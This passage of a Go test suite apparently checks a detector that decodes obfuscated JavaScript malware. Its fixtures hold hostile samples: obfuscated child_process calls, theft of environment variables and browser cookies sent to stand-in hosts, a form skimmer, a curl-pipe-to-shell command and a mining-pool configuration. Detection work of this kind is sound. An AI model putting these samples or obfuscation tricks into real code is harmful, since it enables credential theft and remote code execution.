		if spec != "./k" {
			return "", false
		}
		v, ok := k.ExportProps[prop]
		return v, ok
	}
	if f := Analyze("m.js", []byte(`const { maintenance: M } = require("./k"); require(M.driver)`), lim); !hasImport(f, "child_process") {
		t.Errorf("imports %+v", f.Imports)
	}
}

// TestDestructuredDefaults: the names of a destructured parameter hold
// their defaults when the caller leaves them out, and the rest of one
// defaulting to the environment is the environment's.
func TestDestructuredDefaults(t *testing.T) {
	f := Analyze("c.js", []byte(`function restore(env, { proto = "ht" + "tps", transport = require(proto) } = {}) { transport.request({ host: "c.example.invalid" }) }`), DefaultLimits())
	if hasCall(f, "https.request") == nil {
		t.Errorf("calls %+v", f.Calls)
	}
	g := Analyze("p.js", []byte(`function ctx({ CI, ...rest } = process.env) { require("https").request({ host: "c.example.invalid" }).end(JSON.stringify(rest)) }`), DefaultLimits())
	if !slices.ContainsFunc(g.Env, func(e EnvRead) bool { return strings.HasPrefix(e.How, "sent:") }) {
		t.Errorf("env %+v", g.Env)
	}
}

func TestESMExportProps(t *testing.T) {
	g := Analyze("b.js", []byte(`export const CODES = [104, 116]; export const HOST = ["c", "example.invalid"].join("."); export let n = f(); export default "x"; function f() { return 1 }`), DefaultLimits())
	if diff := cmp.Diff(map[string]string{"HOST": "c.example.invalid"}, g.ExportProps); diff != "" {
		t.Errorf("export props (-want +got):\n%s", diff)
	}
	if diff := cmp.Diff(map[string][]string{"CODES": {"104", "116"}}, g.ExportArrays); diff != "" {
		t.Errorf("export arrays (-want +got):\n%s", diff)
	}
}

// A UMD wrapper hands its factory the global object: the factory's first
// parameter reads globals through it.
func TestUMDFactoryGlobal(t *testing.T) {
	f := Analyze("x.js", []byte(`(function (root, factory) { if (typeof module === "object") module.exports = factory(root); else root.X = factory(root) })(typeof self !== "undefined" ? self : this, function (g) { return g.document.cookie + g.fetch("/x") })`), DefaultLimits())
	if hasCall(f, "fetch") == nil || !slices.ContainsFunc(f.Members, func(m Member) bool { return m.Name == "document.cookie" }) {
		t.Errorf("globals through a UMD factory: calls %+v members %+v", f.Calls, f.Members)
	}
	// a factory handed a dependency, not the root, stays unbound
	f = Analyze("x.js", []byte(`(function (root, factory) { module.exports = factory(require("dep")) })(this, function (dep) { return dep.fetch("/x") })`), DefaultLimits())
	if hasCall(f, "fetch") != nil {
		t.Errorf("a dependency taken for the global object: %+v", f.Calls)
	}
}

// String repeat folds, within the fold's size bound.
func TestRepeatFold(t *testing.T) {
	f := Analyze("x.js", []byte(`require("ch" + "i".repeat(1) + "ld_process"); const big = "x".repeat(1e9); require(big); require("xy".repeat(4611686018427387904))`), DefaultLimits())
	if !hasImport(f, "child_process") {
		t.Errorf("repeat not folded: %+v", f.Imports)
	}
	if slices.ContainsFunc(f.Imports, func(im Import) bool { return len(im.Module) > 1000 }) {
		t.Errorf("a huge repeat folded: %d imports", len(f.Imports))
	}
}

// TestNestedExportProps covers a constant two levels into what another
// module or a JSON file exports: K.path.p folds where a request uses it.
func TestNestedExportProps(t *testing.T) {
	k := Analyze("k.js", []byte(`module.exports = { host: "x.example" + ".invalid", path: { p: "/c" + "ollect", deep: { q: "/a", r: { s: "/too-deep" } } }, run() {} };`), DefaultLimits())
	if diff := cmp.Diff(map[string]string{"host": "x.example.invalid", "path.p": "/collect", "path.deep.q": "/a"}, k.ExportProps); diff != "" {
		t.Errorf("ExportProps (-want +got):\n%s", diff)
	}
	lim := DefaultLimits()
	lim.Module = func(from, spec, prop string) (string, bool) {
		v, ok := k.ExportProps[prop]
		return v, ok && spec == "./k"
	}
	lim.ReadFile = func(name string) (string, bool) {
		return `{"path": {"p": "/upload"}}`, name == "cfg.json"
	}
	f := Analyze("index.js", []byte(`const https = require("https"); const K = require("./k"); const C = require("./cfg.json");
https.get("https://" + K.host + K.path.p);
https.request("https://" + K.host + C.path.p);
const { path: P } = require("./cfg.json"); fetch("https://" + K.host + P.p);
const Q = C.path; navigator.sendBeacon("https://" + K.host + Q.p);`), lim)
	for callee, want := range map[string]string{"https.get": "https://x.example.invalid/collect", "https.request": "https://x.example.invalid/upload"} {
		if c := hasCall(f, callee); c == nil || len(c.Args) == 0 || c.Args[0].Value != want {
			t.Errorf("%s: %+v, want %q", callee, c, want)
		}
	}
	// a member of a JSON file's object destructured under another name
	if c := hasCall(f, "fetch"); c == nil || len(c.Args) == 0 || c.Args[0].Value != "https://x.example.invalid/upload" {
		t.Errorf("fetch: %+v, want P.p as C.path.p", c)
	}
	// and one held by a variable of its own (const Q = C.path)
	if c := hasCall(f, "navigator.sendBeacon"); c == nil || len(c.Args) == 0 || c.Args[0].Value != "https://x.example.invalid/upload" {
		t.Errorf("sendBeacon: %+v, want Q.p as C.path.p", c)
	}
}

// TestHelperShape covers a URL built by a helper whose scheme is chosen
// at run time: the parts keep their shapes instead of becoming one hole.
func TestHelperShape(t *testing.T) {
	f := Analyze("a.js", []byte("function base() { return (location.protocol === 'http:' ? 'http:' : 'https:') + '//px.example.invalid' }\nconst root = `${base()}/v1`;\nnew Image().src = base() + '/p?d=' + data;\nlink.href = root + '/q';\n"), DefaultLimits())
	var got []string
	for _, a := range f.Assigns {
		got = append(got, a.Target+" = "+a.Value)
	}
	want := []string{"new Image.src = " + Hole + "//px.example.invalid/p?d=" + Hole, "link.href = " + Hole + "//px.example.invalid/v1/q"}
	if diff := cmp.Diff(want, got); diff != "" {
		t.Errorf("assigns (-want +got):\n%s", diff)
	}
}

// TestHelperLocals covers a decoder that names a constant before its
// return (an offset accessor over a Caesar-shifted table): calls of it
// fold like calls of a one-line helper.
func TestHelperLocals(t *testing.T) {
	f := Analyze("a.js", []byte(`const T = ["fklogbsurfhvv", "kwwsv=22f1h{dpsoh1lqydolg2s"];
function k(i) { const j = i - 0x7b; const s = T[j]; return String.fromCharCode(...[...s].map((c) => c.charCodeAt(0) - 3)); }
function n(i) { let j = i - 1; j++; return T[j]; }
require(k(0x7b)).exec("id"); fetch(k(0x7c)); fetch(n(1));`), DefaultLimits())
	if !hasImport(f, "child_process") {
		t.Errorf("imports %+v", f.Imports)
	}
	var urls []string
	for _, c := range f.Calls {
		if c.Callee == "fetch" && len(c.Args) > 0 {
			urls = append(urls, c.Args[0].Value)
		}
	}
	// n changes its local before returning: not a helper
	if diff := cmp.Diff([]string{"https://c.example.invalid/p", ""}, urls); diff != "" {
		t.Errorf("fetch URLs (-want +got):\n%s", diff)
	}
}

// TestModuleHelpers covers a decoder another module exports: its source
// is kept (Facts.ExportHelpers) and calls of it fold where it is imported.
func TestModuleHelpers(t *testing.T) {
	paths := Analyze("paths.js", []byte(`const d = (s) => Buffer.from(s, "base64").toString();
const add = (a, b) => a + b;
exports.unhex = (h) => Buffer.from(h, "hex").toString("utf8");
module.exports = { d, add, unhex: exports.unhex };`), DefaultLimits())
	esm := Analyze("k.mjs", []byte(`export function k(s) { return atob(s); }
export const sum = (a, b) => a + b;`), DefaultLimits())
	var names []string
	for _, f := range []*Facts{paths, esm} {
		for n := range f.ExportHelpers {
			names = append(names, n)
		}
	}
	slices.Sort(names)
	if diff := cmp.Diff([]string{"d", "k", "unhex"}, names); diff != "" {
		t.Errorf("exported helpers (-want +got):\n%s", diff)
	}
	lim := DefaultLimits()
	lim.ModuleHelper = func(from, spec, prop string) (string, bool) {
		switch spec {
		case "./paths":
			src, ok := paths.ExportHelpers[prop]
			return src, ok
		case "./k.mjs":
			src, ok := esm.ExportHelpers[prop]
			return src, ok
		}
		return "", false
	}
	f := Analyze("sync.js", []byte(`const fs = require("fs"); const { d } = require("./paths");
const FILES = ["TG9naW4gRGF0YQ==", "Q29va2llcw=="].map(d);
for (const f of FILES) fs.readFileSync(f);
require(d("Y2hpbGRfcHJvY2Vzcw==")).exec("id");`), lim)
	if !hasImport(f, "child_process") || !hasString(f, "Login Data") || !hasString(f, "Cookies") {
		t.Errorf("imports %+v", f.Imports)
	}
	g := Analyze("main.mjs", []byte(`import { k } from "./k.mjs"; fetch(k("aHR0cHM6Ly9jLmV4YW1wbGUuaW52YWxpZC9w"));`), lim)
	if c := hasCall(g, "fetch"); c == nil || len(c.Args) == 0 || c.Args[0].Value != "https://c.example.invalid/p" {
		t.Errorf("fetch = %+v", c)
	}
}

// TestWholeModuleHelper covers a module that is itself a decoder
// (module.exports = (k) => …) over its own object of char-code arrays
// and a numeric offset: both travel with the helper, and calls fold where
// the module is required.
func TestWholeModuleHelper(t *testing.T) {
	tables := Analyze("tables.js", []byte(`const OFF = 17;
const T = { f: [117, 120, 131, 114, 126], h: [121, 128, 126, 118, 117, 122, 131] };
module.exports = (k) => String.fromCharCode(...T[k].map((n) => n - OFF));`), DefaultLimits())
	lim := DefaultLimits()
	lim.ModuleHelper = func(from, spec, prop string) (string, bool) {
		src, ok := tables.ExportHelpers[prop]
		return src, ok && spec == "./tables"
	}
	f := Analyze("diag.js", []byte(`const t = require("./tables");
const home = require("os")[t("h")]();
const sock = require(t("f"));`), lim)
	if !hasImport(f, "dgram") || !hasString(f, "homedir") {
		t.Errorf("imports %+v, strings %+v", f.Imports, f.Strings)
	}
	// an object whose values are not all literals stays the module's
	g := Analyze("tables.js", []byte(`const T = { f: [117, 120], g: load() };
module.exports = (k) => String.fromCharCode(...T[k].map((n) => n - 17));`), DefaultLimits())
	if src, ok := g.ExportHelpers[""]; !ok || strings.Contains(src, "\x00") {
		t.Errorf("helper %q (kept: %v) carries a table that is not constant", src, ok)
	}
}

// TestTagHelper covers a template tag that hands its strings to
// String.raw and decodes the text (a shift of every character): the
// tagged templates fold, in a call and as strings of the file.
func TestTagHelper(t *testing.T) {
	f := Analyze("a.js", []byte("const v = (s, ...x) => String.raw(s, ...x).replace(/[\\x20-\\x7e]/g,\n"+
		"  (c) => String.fromCharCode(((c.charCodeAt(0) - 33 + 95) % 95) + 32));\n"+
		"const sock = require(v`ehsbn`);\nconst task = { runOptions: { runOn: v`gpmefsPqfo` } };\n"), DefaultLimits())
	if !hasImport(f, "dgram") || !hasString(f, "folderOpen") {
		t.Errorf("imports %+v, strings %+v", f.Imports, f.Strings)
	}
	// a tag that keeps its text as written is no decoding
	g := Analyze("a.js", []byte("const css = (s, ...x) => String.raw(s, ...x).trim();\nconst rule = css`color: red`;\n"), DefaultLimits())
	for _, s := range g.Strings {
		if s.Decoded {
			t.Errorf("decoded string %+v from a tag that decodes nothing", s)
		}
	}
}

// TestModuleArrayMember covers a constant array read as a property of
// the module object (c.PARTS, c.CTL[0]), not destructured.
func TestModuleArrayMember(t *testing.T) {
	lim := DefaultLimits()
	lim.ModuleArray = func(from, spec, prop string) ([]string, bool) {
		v, ok := map[string][]string{"PARTS": {"child", "_process"}, "CTL": {"system", "ctl", "--user"}}[prop]
		return v, ok && spec == "./constants"
	}
	f := Analyze("cache.js", []byte(`const c = require("./constants"); const ctl = c.CTL[0] + c.CTL[1];
require(c.PARTS.join("")).exec(ctl + " " + c.CTL[2] + " daemon-reload");`), lim)
	if c := hasCall(f, "child_process.exec"); c == nil || len(c.Args) == 0 || c.Args[0].Value != "systemctl --user daemon-reload" {
		t.Errorf("exec = %+v", c)
	}
}

// TestXORInPlace covers a buffer decrypted in place by a loop over a
// constant key (an array of bytes, or a string's char codes) and then
// run: the buffer folds decrypted.
func TestXORInPlace(t *testing.T) {
	for name, src := range map[string]string{
		"byte key": `const raw = Buffer.from("634742644b41740a14724a5a7d466c61505c72474062051a3f474b74411b364b57360b", "hex"); const K = [0x11, 0x22, 0x33];
for (let i = 0; i < raw.length; i++) raw[i] ^= K[i % K.length];
new Function("require", raw.toString("utf8"))(require);`,
		"string key": `function run() { const b = Buffer.from("1956081e5a0b0e1b5e085b100757261b411608560a1814504556010e50514c5a1d4c1a", "hex"); const key = "k3y";
for (let i = 0; i < b.length; i++) b[i] ^= key.charCodeAt(i % key.length);
eval(b.toString()); } run();`,
	} {
		f := Analyze("a.js", []byte(src), DefaultLimits())
		if c := hasCall(f, "child_process.exec"); c == nil || len(c.Args) == 0 || c.Args[0].Value != "id" {
			t.Errorf("%s: exec = %+v, calls %+v", name, c, f.Calls)
		}
	}
	// a key not indexed by the loop's own counter is not a cycle
	f := Analyze("a.js", []byte(`const raw = Buffer.from("634742644b41740a14724a5a7d466c61505c72474062051a3f474b74411b364b57360b", "hex"); const K = [0x11, 0x22, 0x33]; let j = 0;
for (let i = 0; i < raw.length; i++) raw[i] ^= K[j % K.length];
new Function("require", raw.toString("utf8"))(require);`), DefaultLimits())
	if hasCall(f, "child_process.exec") != nil {
		t.Errorf("decrypted with a key the loop does not cycle: %+v", f.Calls)
	}
}

// TestRotatedBase64Table covers a named string-array decoder whose
// entries are standard base64, decoded by a step the decoder installs on
// first use, over an array rotated by a counted loop.
func TestRotatedBase64Table(t *testing.T) {
	src := `function _a(){const t=['aG9zdG5hbWU=','eDE=','eDI=','Y2hpbGRfcHJvY2Vzcw==','ZXhlYw==','aWQ=','b3M='];_a=function(){return t;};return _a();}
function _d(i,k){const a=_a();return _d=function(j,m){j=j-0x1b2;let v=a[j];if(_d['q']===undefined){_d['r']=function(s){return Buffer['from'](s,'base64')['toString']();};_d['q']=!![];}return _d['r'](v);},_d(i,k);}
(function(f,n){const a=f();let c=n;while(c--){a['push'](a['shift']());}}(_a,10));
require(_d(0x1b2))[_d(0x1b3)](_d(0x1b4));`
	f := Analyze("a.js", []byte(src), DefaultLimits())
	if c := hasCall(f, "child_process.exec"); c == nil || len(c.Args) == 0 || c.Args[0].Value != "id" {
		t.Errorf("exec = %+v, imports %+v", c, f.Imports)
	}
}

// Past their caps, the names kept are the first in sorted order, not the
// first a map happened to yield: a re-analysis reports the same facts.
func TestCappedNamesSorted(t *testing.T) {
	var b strings.Builder
	for i := range 250 {
		fmt.Fprintf(&b, "https.get(u, (r%03d) => { r%03d.pipe(out) });\n", 249-i, 249-i)
	}
	src := "const https = require('https');\n" + b.String()
	f := Analyze("x.js", []byte(src), DefaultLimits())
	if len(f.NetVars) != 200 {
		t.Fatalf("%d netVars, want 200", len(f.NetVars))
	}
	want := make([]string, 200)
	for i := range want {
		want[i] = fmt.Sprintf("r%03d", i)
	}
	if diff := cmp.Diff(want, f.NetVars); diff != "" {
		t.Errorf("netVars (-want +got):\n%s", diff)
	}
}

// Buffer.from of a constant array of bytes kept in a variable folds to
// its text; an array the code writes at run time does not.
func TestBufferFromByteArray(t *testing.T) {
	f := Analyze("x.js", []byte(`const E = [104, 116, 116, 112, 115, 58, 47, 47, 120, 46, 105, 110, 118, 97, 108, 105, 100];
require("https").request(Buffer.from(E).toString());`), DefaultLimits())
	if c := hasCall(f, "https.request"); c == nil || len(c.Args) == 0 || c.Args[0].Value != "https://x.invalid" {
		t.Errorf("https.request = %+v", c)
	}
	f = Analyze("x.js", []byte(`const E = [104, 116, 116, 112]; E[3] = next();
require("https").request(Buffer.from(E).toString());`), DefaultLimits())
	if c := hasCall(f, "https.request"); c == nil || len(c.Args) == 0 || c.Args[0].Known {
		t.Errorf("changed array folded: %+v", c)
	}
}

// A helper taking the rest of its arguments folds with them as an array:
// j(0, 1) with const j = (...i) => i.map((k) => seg[k]).join("").
func TestRestParamHelper(t *testing.T) {
	f := Analyze("x.js", []byte(`const seg = ['ch', 'ild_pro', 'cess', 'ex', 'ec'];
const j = (...i) => i.map((k) => seg[k]).join('');
require(j(0, 1, 2))[j(3, 4)]('id');`), DefaultLimits())
	if !hasImport(f, "child_process") || hasCall(f, "child_process.exec") == nil {
		t.Errorf("rest helper not folded: imports %+v calls %+v", f.Imports, f.Calls)
	}
}

// A condition the code decides at run time folds when both of its
// branches give the same value (atob where there is one, Buffer
// elsewhere), and not when they differ.
func TestConditionSameBothWays(t *testing.T) {
	f := Analyze("x.js", []byte(`const d = (e) => typeof atob !== "undefined" ? atob(e) : Buffer.from(e, "base64").toString("binary");
require(d("Y2hpbGRfcHJvY2Vzcw=="));`), DefaultLimits())
	if !hasImport(f, "child_process") {
		t.Errorf("imports = %+v", f.Imports)
	}
	f = Analyze("x.js", []byte(`require(process.env.X ? "fs" : "child_process");`), DefaultLimits())
	if hasImport(f, "fs") || hasImport(f, "child_process") {
		t.Errorf("a condition with two values folded: %+v", f.Imports)
	}
}

// TestEmbeddedText covers a configuration hidden in an embedded binary
// (a base64 WebAssembly module): the printable runs that name a mining
// pool or a raw IP's URL become decoded strings of the file; other runs,
// and literals that are not base64, do not.
func TestEmbeddedText(t *testing.T) {
	bin := func(text string) string {
		return base64.StdEncoding.EncodeToString([]byte("\x00asm\x01\x00\x00\x00\x00\x40\x04hint" + text + "\x00\x01"))
	}
	f := Analyze("wasm_bg.js", []byte(`module.exports = "`+bin(`{"u":"http://198.51.100.61/x/k","p":"stratum+tcp://pool.example:3333"}`)+`";
const font = "`+bin(`{"family":"Inter","weight":400,"url":"https://fonts.example.invalid/inter"}`)+`";`), DefaultLimits())
	var got []string
	for _, s := range f.Strings {
		if s.Decoded {
			got = append(got, s.Value)
		}
	}
	want := []string{`hint{"u":"http://198.51.100.61/x/k","p":"stratum+tcp://pool.example:3333"}`}
	if diff := cmp.Diff(want, got); diff != "" {
		t.Errorf("decoded strings (-want +got):\n%s", diff)
	}
	if got := embeddedText("a sentence that is long enough to be considered, with http://198.51.100.61/ in it"); got != nil {
		t.Errorf("embeddedText of plain text = %q", got)
	}
}

// TestAssignInCallback covers the classic ROT13 callback, which assigns
// its parameter inside the expression it returns: the assignment folds
// and rebinds the parameter for the rest of the expression.
func TestAssignInCallback(t *testing.T) {
	f := Analyze("a.js", []byte(`function rot(s) { return s.replace(/[a-zA-Z]/g, (c) => String.fromCharCode((c <= "Z" ? 90 : 122) >= (c = c.charCodeAt(0) + 13) ? c : c - 26)); }
require(rot("puvyq_cebprff")).exec("id");
let seen; [1].forEach((x) => (seen = x)); require(seen ? "fs" : "os");`), DefaultLimits())
	if c := hasCall(f, "child_process.exec"); c == nil {
		t.Errorf("imports %+v, calls %+v", f.Imports, f.Calls)
	}
	// an assignment outside a function being evaluated is not folded
	if hasImport(f, "fs") || hasImport(f, "os") {
		t.Errorf("a run-time assignment decided a require: %+v", f.Imports)
	}
}

// TestDecodedByLoop covers text decoded piece by piece in a loop (s +=
// String.fromCharCode(b ^ K[i % 5])): what it is handed to is code that
// comes out of a decoding.
func TestDecodedByLoop(t *testing.T) {
	f := Analyze("a.js", []byte(`const K = [102, 108, 97, 103, 115];
function hints(list) { let s = "";
  for (const c of list) for (let i = 0; i < c.v.length; i += 2) s += String.fromCharCode(parseInt(c.v.substr(i, 2), 16) ^ K[s.length % 5]);
  [].filter.constructor("require", s)(require); }
function label(list) { let s = ""; for (const c of list) s += c.name + ", "; return Function("return " + JSON.stringify(s))(); }`), DefaultLimits())
	var got []string
	for _, c := range f.Calls {
		if c.Callee == "Function" && len(c.Args) > 0 {
			got = append(got, c.Args[len(c.Args)-1].Decodes)
		}
	}
	if diff := cmp.Diff([]string{"String.fromCharCode", ""}, got); diff != "" {
		t.Errorf("Function bodies' decodings (-want +got):\n%s", diff)
	}
}

// TestPageScriptText covers a script kept as text for a page to run (a
// build plugin's injected tag), with a URL quoted into it by
// JSON.stringify: its calls are the file's. Text that is no page script
// stays a string.
func TestPageScriptText(t *testing.T) {
	f := Analyze("plugin.js", []byte("const E = \"//px.example.invalid/c\";\n"+
		"const tag = `(function(){var E=${JSON.stringify(E)},S={};document.addEventListener('change',function(e){S[e.target.name]=e.target.value},true);"+
		"document.addEventListener('submit',function(){navigator.sendBeacon(E,JSON.stringify(S))},true)})();`;\n"+
		"const doc = `Call document.addEventListener('submit', fn) to listen, and pass a function that reads the form; see the guide for the details of sendBeacon(url).`;\n"), DefaultLimits())
	var got []string
	for _, c := range f.Calls {
		if len(c.Args) > 0 && (strings.HasPrefix(c.Callee, "document.") || strings.HasPrefix(c.Callee, "navigator.")) {
			got = append(got, c.Callee+" "+c.Args[0].Value)
		}
	}
	want := []string{"document.addEventListener change", "document.addEventListener submit", "navigator.sendBeacon //px.example.invalid/c"}
	if diff := cmp.Diff(want, got); diff != "" {
		t.Errorf("calls (-want +got):\n%s", diff)
	}
}

// TestCommandWrappers covers functions that start a process with what
// they are given: each call of one is a call of the process-starting
// function with the call's arguments in place of the parameter.
func TestCommandWrappers(t *testing.T) {
	f := Analyze("a.js", []byte(`const { execFile, execFileSync, execSync } = require("child_process");
function reg(args) { return new Promise((resolve, reject) => execFile("reg.exe", args, { windowsHide: true }, (e, out) => (e ? reject(e) : resolve(out)))); }
const git = (...a) => execFileSync("git", a, { stdio: "ignore" });
function sh(cmd) { return execSync(cmd, { stdio: "inherit" }); }
function version() { return execFileSync("node", ["--version"]); }
reg(["delete", "HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run", "/v", "app", "/f"]);
git("push", "--force", "https://x.example.invalid/r.git");
sh("curl -s https://x.example.invalid/i | sh");
version();`), DefaultLimits())
	var got []string
	for _, c := range f.Calls {
		if !strings.HasPrefix(c.Callee, "child_process.") || len(c.Args) == 0 {
			continue
		}
		line := c.Callee + " " + c.Args[0].Value
		if len(c.Args) > 1 && len(c.Args[1].List) > 0 {
			line += " " + strings.Join(c.Args[1].List, " ")
		}
		got = append(got, line)
	}
	want := []string{
		"child_process.execFile reg.exe", "child_process.execFileSync git", "child_process.execSync ", "child_process.execFileSync node --version",
		`child_process.execFile reg.exe delete HKCU\Software\Microsoft\Windows\CurrentVersion\Run /v app /f`,
		"child_process.execFileSync git push --force https://x.example.invalid/r.git",
		"child_process.execSync curl -s https://x.example.invalid/i | sh",
	}
	if diff := cmp.Diff(want, got); diff != "" {
		t.Errorf("process calls (-want +got):\n%s", diff)
	}
}

// TestLoopDecoder covers a decoder that builds its result in a loop over
// an array's indices (let s = ""; for (…) s += String.fromCharCode(t[i]
// - bias); return s), in the file and exported with its table by another
// module.
func TestLoopDecoder(t *testing.T) {
	probes := Analyze("probes.js", []byte(`const PACKED = [102, 107, 108, 111, 103, 98, 115, 117, 114, 102, 104, 118, 118];
function unpack(t, bias) { let s = ""; for (let i = 0; i < t.length; i++) s += String.fromCharCode(t[i] - bias); return s; }
require(unpack([103, 106, 117, 100, 112], 3));
module.exports = { PACKED, unpack };`), DefaultLimits())
	if !hasImport(probes, "dgram") {
		t.Errorf("in the file: imports %+v", probes.Imports)
	}
	lim := DefaultLimits()
	lim.ModuleHelper = func(from, spec, prop string) (string, bool) {
		src, ok := probes.ExportHelpers[prop]
		return src, ok && spec == "./probes"
	}
	lim.ModuleArray = func(from, spec, prop string) ([]string, bool) {
		arr, ok := probes.ExportArrays[prop]
		return arr, ok && spec == "./probes"
	}
	f := Analyze("agent.js", []byte(`const { PACKED, unpack } = require("./probes"); require(unpack(PACKED, 3)).exec("id");`), lim)
	if hasCall(f, "child_process.exec") == nil {
		t.Errorf("from another module: imports %+v", f.Imports)
	}
	// a loop that does something else than add to its result
	g := Analyze("a.js", []byte(`function sum(t) { let s = ""; for (let i = 0; i < t.length; i++) log(t[i]); return s; }
require(sum([104, 116]) + "x");`), DefaultLimits())
	if len(g.Imports) != 1 || g.Imports[0].Module != "" {
		t.Errorf("a logging loop folded: %+v", g.Imports)
	}
}

// TestModularStringArray covers a string-array decoder that wraps its
// shifted index around the array's length (i = (i + 0x3) % A.length)
// instead of subtracting an offset.
func TestModularStringArray(t *testing.T) {
	src := `var A = ['Y2hpbGRfcHJvY2Vzcw==', 'ZXhlYw==', 'aWQ=', 'b3M=', 'eDE='];
(function (a, n) { while (--n) a.push(a.shift()); })(A, 0x4);
var d = function (i) { i = (i + 0x3) % A.length; var s = A[i]; return typeof atob === 'function' ? atob(s) : Buffer.from(s, 'base64').toString(); };
require(d(4))[d(0)](d(1));`
	f := Analyze("a.js", []byte(src), DefaultLimits())
	if c := hasCall(f, "child_process.exec"); c == nil || len(c.Args) == 0 || c.Args[0].Value != "id" {
		t.Errorf("exec = %+v, imports %+v", c, f.Imports)
	}
}

// TestSchemeModule covers require of a URL's scheme (http or https):
// its get is a network call.
func TestSchemeModule(t *testing.T) {
	f := Analyze("a.js", []byte(`const u = new URL(target); require(u.protocol.slice(0, -1)).get(u, (r) => r.pipe(out));
require(u.hostname.slice(0, 3)).get(u);`), DefaultLimits())
	var got []string
	for _, c := range f.Calls {
		if strings.HasSuffix(c.Callee, ".get") {
			got = append(got, c.Callee)
		}
	}
	// (a module named after the host is no scheme's)
	if diff := cmp.Diff([]string{"https.get", "require().get"}, got); diff != "" {
		t.Errorf("get calls (-want +got):\n%s", diff)
	}
}
